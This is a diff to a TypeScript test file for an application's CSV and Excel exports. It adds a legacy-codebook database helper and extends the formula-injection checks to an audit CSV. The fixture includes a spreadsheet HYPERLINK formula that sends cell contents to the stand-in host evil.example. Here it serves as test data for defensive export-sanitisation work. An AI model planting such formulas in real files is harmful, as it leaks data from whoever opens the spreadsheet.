@@ -8,9 +8,11 @@
  */
 import ExcelJS from 'exceljs';
 import { parse } from 'csv-parse/sync';
+import { and, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { assertWellFormed } from '@concord/charts/testing';
-import { EXPORT_FILES, type CodebookInput, type ExportFile, type Role } from '@concord/shared';
+import { codebookFields, codebooks, codebookVersions } from '@concord/db';
+import { EXPORT_FILES, newId, type CodebookInput, type ExportFile, type Role } from '@concord/shared';
 import { addToProject, createHarness, json, signUp, signUpTeam, type Harness, type Session } from './harness.ts';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
@@ -82,7 +84,7 @@ beforeAll(async () => {
   for (const [who, role] of [[team.editor, 'editor'], [team.methodologist, 'methodologist'], [team.coder, 'coder'], [coder2, 'coder']] as const) {
     await addToProject(h, team.owner, projectId, who, role);
   }
-  await call(team.owner, 'PUT', `/${projectId}/codebook`, { ...HOSTILE_CODEBOOK, baseVersion: 1 });
+  await saveLegacyCodebook(projectId, HOSTILE_CODEBOOK);
   const item = await json<{ id: string }>(await call(team.editor, 'POST', `/${projectId}/items`, { title: FORMULA, externalId: AT, platform: 'facebook' }));
   itemId = item.id;
   await call(team.owner, 'POST', `/${projectId}/assignments`, { roundName: PLUS, coderIds: [team.coder.userId, coder2.userId], itemIds: [itemId], mode: { type: 'k', k: 2 } });
@@ -96,6 +98,22 @@ beforeAll(async () => {
   await call(team.editor, 'PUT', `${base}/adjudications/frame`, { value: MINUS_VALUE, rationale: AT });
 }, 120_000);
 afterAll(() => h.close());
+
+/**
+ * New option codes must be identifiers, but a codebook saved before that rule may hold any
+ * code but "|" (only new or changed codes are checked), and exports must keep those inert:
+ * written here as such a codebook, straight into its current version.
+ */
+async function saveLegacyCodebook(project: string, input: CodebookInput) {
+  const db = h.deps.database.db;
+  const [cb] = await db.select().from(codebooks).where(eq(codebooks.projectId, project));
+  const [version] = await db.select().from(codebookVersions).where(and(eq(codebookVersions.codebookId, cb!.id), eq(codebookVersions.version, cb!.currentVersion)));
+  await db.delete(codebookFields).where(eq(codebookFields.versionId, version!.id));
+  await db
+    .insert(codebookFields)
+    .values(input.fields.map((f, position) => ({ id: newId('field'), versionId: version!.id, key: f.key, position, type: f.type, definition: f })));
+  await db.update(codebooks).set({ name: input.name }).where(eq(codebooks.id, cb!.id));
+}
 
 async function download(path: string): Promise<string> {
   const res = await h.request(team.owner, 'GET', `/api/projects/${projectId}/${path}`);
@@ -111,10 +129,12 @@ function downloadPaths(file: ExportFile): string[] {
 }
 
 const CSV_FILES = EXPORT_FILES.filter((f) => f.path.includes('.csv'));
+/** CSV downloads of other pages: the owner's audit log. */
+const OTHER_CSV_PATHS = ['audit.csv'];
 const cells = (csv: string) => (parse(csv, { relax_column_count: true }) as string[][]).flat();
 
 describe('CSV exports', () => {
-  it('are all checked here: every route that answers text/csv is a download of the report page', async () => {
+  it('are all checked here: every route that answers text/csv is a download of the report page or the audit page', async () => {
     const doc = await json<{ paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>> }>(
       await h.request(null, 'GET', '/api/openapi.json'),
     );
@@ -122,10 +142,10 @@ describe('CSV exports', () => {
       .filter(([, ops]) => Object.values(ops).some((op) => op.responses?.['200']?.content?.['text/csv']))
       .map(([path]) => path.replace('/api/projects/{projectId}/', ''));
     expect(csvRoutes.length).toBeGreaterThan(5);
-    expect(new Set(CSV_FILES.map((f) => f.path.split('?')[0]))).toEqual(new Set(csvRoutes));
+    expect(new Set([...CSV_FILES.map((f) => f.path.split('?')[0]), ...OTHER_CSV_PATHS])).toEqual(new Set(csvRoutes));
   });
 
-  it.each(CSV_FILES.flatMap(downloadPaths))('%s holds no cell a spreadsheet would run', async (path) => {
+  it.each([...CSV_FILES.flatMap(downloadPaths), ...OTHER_CSV_PATHS])('%s holds no cell a spreadsheet would run', async (path) => {
     const all = cells(await download(path));
     expect(all.length).toBeGreaterThan(0);
     for (const cell of all) if (FORMULA_START.test(cell)) expect(cell, `${path}: ${JSON.stringify(cell)}`).toMatch(PLAIN_NUMBER);
